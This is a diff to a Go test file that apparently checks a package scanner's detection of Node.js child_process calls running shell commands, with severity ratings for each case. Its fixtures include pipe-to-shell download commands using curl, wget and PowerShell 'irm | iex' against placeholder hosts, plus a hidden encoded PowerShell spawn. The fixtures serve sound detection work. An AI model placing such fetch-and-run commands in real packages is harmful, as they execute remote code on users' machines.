@@ -10,6 +10,20 @@ import (
 func TestSpawn(t *testing.T) {
 	rt.Check(t, Spawn{}, []rt.Case{
 		{"curl_sh", map[string]string{"index.js": `require("child_process").execSync("curl -s https://x.invalid/s | bash")`}, finding.SeverityCritical},
+		// an argument array is part of the command line
+		{"powershell_encoded_argv", map[string]string{"index.js": `require("child_process").spawn("powershell.exe", ["-NoP", "-W", "Hidden", "-EncodedCommand", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"])`}, finding.SeverityCritical},
+		{"git_argv", map[string]string{"index.js": `require("child_process").spawn("git", ["clone", "--depth", "1", url])`}, finding.SeverityLow},
+		// the command kept in a module of the package that the spawning file loads
+		{"command_in_module", map[string]string{"config.js": `module.exports = { cmd: "curl http://x.invalid/x.sh | sh" }`,
+			"index.js": `require("child_process").execSync(require("./config").cmd)`}, finding.SeverityCritical},
+		{"esm_command_in_module", map[string]string{"c.mjs": `export const CMD = "wget -qO- https://x.invalid/i | sh"`,
+			"index.mjs": `import { exec } from "child_process"; import { CMD } from "./c.mjs"; exec(CMD)`}, finding.SeverityCritical},
+		// a hint printed by a loaded module is not a command
+		{"hint_in_module", map[string]string{"help.js": `module.exports = () => console.log("install it with: curl -fsSL https://x.invalid/i.sh | sh")`,
+			"index.js": `const help = require("./help"); require("child_process").execSync("git --version")`}, finding.SeverityLow},
+		// another file of the package that the spawning file does not load
+		{"command_elsewhere", map[string]string{"docs/example.js": `const install = "curl -fsSL https://x.invalid/i.sh | sh"`,
+			"index.js": `require("child_process").execSync("git --version")`}, finding.SeverityLow},
 		{"chosen_at_runtime", map[string]string{"index.js": `const {execSync}=require("child_process"); let c; if (w) c = "powershell -c \"irm x.invalid/i.ps1|iex\""; else c = "wget -qO- https://x.invalid/i | sh"; execSync(c)`}, finding.SeverityCritical},
 		// the command is a template: its constant text still says what it does
 		{"template_curl_sh", map[string]string{"index.js": "const {exec}=require(\"child_process\"); exec(`curl -s ${host}/i.sh | sh`)"}, finding.SeverityCritical},
